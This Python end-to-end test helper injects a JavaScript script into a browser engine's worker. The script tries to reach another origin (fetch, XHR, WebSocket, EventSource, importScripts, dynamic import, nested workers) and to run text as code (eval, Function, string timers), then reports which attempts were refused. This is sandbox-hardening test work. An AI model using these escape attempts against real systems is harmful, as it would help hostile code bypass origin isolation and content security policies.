"""Attempts of hostile code in the engine's worker: to reach another origin, and to run text as code."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

from e2e.lib.site import Site
from e2e.lib.starts import hook_python, only

REPORT = "report/"

# runs in the worker itself, before Python is handed on; a request to the site's server reports the results
ATTACK = """
const other = OTHER, own = OWN;
const blob = (text) => URL.createObjectURL(new Blob([text], { type: "text/javascript" }));
const settled = (listen) => new Promise((resolve, reject) => listen(resolve, () => reject(new Error("refused"))));
const heard = (worker) => settled((done, no) => {
  worker.onmessage = ({ data }) => (data === "left" ? done() : no());
  worker.onerror = (event) => { event.preventDefault(); no(); };
});
const ways = {
  fetch: () => fetch(other + "fetch"),
  blind: () => fetch(other + "blind", { mode: "no-cors" }),
  cache: async () => (await caches.open("stolen")).add(other + "cache"),
  xhr: () => settled((done, no) => {
    const asked = new XMLHttpRequest();
    asked.onload = done;
    asked.onerror = no;
    asked.open("GET", other + "xhr");
    asked.send();
  }),
  import: async () => { await import(other + "import.js"); },
  importData: async () => { await import("data:text/javascript,export {}"); },
  importBlob: async () => { await import(blob("export {}")); },
  importScripts: () => importScripts(other + "script.js"),
  socket: () => settled((done, no) => {
    const socket = new WebSocket(other.replace("http", "ws") + "socket");
    socket.onopen = done;
    socket.onerror = no;
  }),
  events: () => settled((done, no) => {
    const events = new EventSource(other + "events");
    events.onopen = done;
    events.onerror = () => { events.close(); no(); };
  }),
  eval: () => eval("1"),
  function: () => new Function("return 1")(),
  timer: () => settled((done, no) => {
    self.ran = done;
    setTimeout("ran()");
    setTimeout(no, 500);
  }),
  blobWorker: () => heard(new Worker(blob(`fetch("${other}nested").then(() => postMessage("left"),
      () => postMessage("held"))`))),
  ownWorker: () => {
    const worker = new Worker(own, { type: "module" });
    worker.postMessage({ type: "start", path: "snapshot", folder: other, touchPoints: 0, counts: false });
    worker.addEventListener("message", ({ data }) => data.type && worker.dispatchEvent(
      new MessageEvent("message", { data: "left" })));
    return heard(worker);
  },
};
const patient = (way) =>
  Promise.race([way(), new Promise((_, reject) => setTimeout(reject, 5000, new Error("slow")))]);
const tried = await Promise.all(Object.entries(ways).map(async ([name, way]) => {
  try { await patient(way); return [name, "done"]; } catch { return [name, "refused"]; }
}));
await fetch(options.indexURL + "REPORT" + encodeURIComponent(JSON.stringify(Object.fromEntries(tried))));
"""


def attack_from_worker(site: Site, dist: Path, other: Site) -> None:
    """Make the next start of the engine try every attack against ``other``."""
    script = site.url + only(dist, "assets/worker-*.js").relative_to(dist).as_posix()
    words = {"OTHER": json.dumps(other.url), "OWN": json.dumps(script), "REPORT": REPORT}
    attack = ATTACK
    for name, value in words.items():
        attack = attack.replace(name, value)
    hook_python(site, dist, attack.replace("\\", "\\\\"))


def outcomes(site: Site) -> dict[str, Any]:
    """Return the result of every attempt, once the engine is ready."""
    (report,) = [path.partition(REPORT)[2] for path in site.requests if REPORT in path]
    told: dict[str, Any] = json.loads(report)
    return told
